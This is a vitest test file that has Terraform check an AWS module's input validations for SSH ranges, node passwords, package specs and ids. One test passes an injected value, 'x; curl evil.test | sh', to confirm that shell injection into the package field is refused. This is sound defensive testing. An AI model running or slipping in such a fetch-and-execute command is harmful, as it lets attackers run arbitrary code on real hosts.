import { execFile } from "node:child_process";
import { copyFile, mkdtemp, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { requiredTool } from "../../../test/support/required-tool";
import { terraformEnv } from "./render-user-data";

const run = promisify(execFile);
const moduleDir = path.dirname(fileURLToPath(import.meta.url));
const terraform = requiredTool("terraform");

const valid = {
  ssh_cidr: "203.0.113.7/32",
  swarm_id: "greenhouse",
  node_credentials: { "temp-1": "a-good-password-1" },
  aggregator_token: "token-0123456789abcdef",
  aggregator_package: "https://apps.example.test/swarm-aggregator-0.1.0.tgz",
};

/**
 * The module's variables.tf on its own needs no provider, so terraform itself can check the validations: a plan
 * of a module with only the variables either passes or fails on them.
 */
describe("the AWS module's variable validations, checked by terraform", () => {
  let dir = "";
  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), "aws-variables-"));
    await copyFile(path.join(moduleDir, "variables.tf"), path.join(dir, "variables.tf"));
    await run(terraform, ["init", "-input=false", "-no-color"], { cwd: dir, env: terraformEnv as NodeJS.ProcessEnv });
  });
  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  async function plan(overrides: Record<string, unknown>): Promise<string> {
    await writeFile(path.join(dir, "case.tfvars.json"), JSON.stringify({ ...valid, ...overrides }));
    const args = ["plan", "-input=false", "-no-color", "-var-file=case.tfvars.json"];
    return run(terraform, args, { cwd: dir, env: terraformEnv as NodeJS.ProcessEnv }).then(
      () => "ok",
      (error: { stderr: string }) => error.stderr.replace(/[│╷╵]/g, "").replace(/\s+/g, " "),
    );
  }

  it("accepts a complete, valid set", async () => {
    expect(await plan({})).toBe("ok");
  });

  it("refuses SSH open to the world and anything that is not a CIDR block", async () => {
    expect(await plan({ ssh_cidr: "0.0.0.0/0" })).toContain("ssh_cidr must be a CIDR block such as 203.0.113.7/32");
    expect(await plan({ ssh_cidr: "my office" })).toContain("ssh_cidr must be a CIDR block");
  });

  it("refuses node passwords mosquitto_passwd would split or that are too short, and bad node ids", async () => {
    const message = "node_credentials keys must be node ids";
    // Terraform quotes the offending line of the variables file, password included: the deploy runner redacts it.
    expect(await plan({ node_credentials: { "temp-1": "has:colon-inside" } })).toContain(message);
    expect(await plan({ node_credentials: { "temp-1": "short" } })).toContain(message);
    expect(await plan({ node_credentials: { aggregator: "a-good-password-1" } })).toContain(message);
    expect(await plan({ node_credentials: { "Temp 1": "a-good-password-1" } })).toContain(message);
  });

  it("refuses an aggregator package spec with characters the shell would act on", async () => {
    expect(await plan({ aggregator_package: "x; curl evil.test | sh" })).toContain(
      "aggregator_package must be an npm install spec",
    );
  });

  it("refuses a swarm id that is not a slug, a short token and fractional hours", async () => {
    expect(await plan({ swarm_id: "Green House" })).toContain("swarm_id must be a slug");
    expect(await plan({ aggregator_token: "short" })).toContain("aggregator_token must be 16-256 characters");
    expect(await plan({ auto_destroy_hours: 1.5 })).toContain("auto_destroy_hours must be a whole number");
  });
});
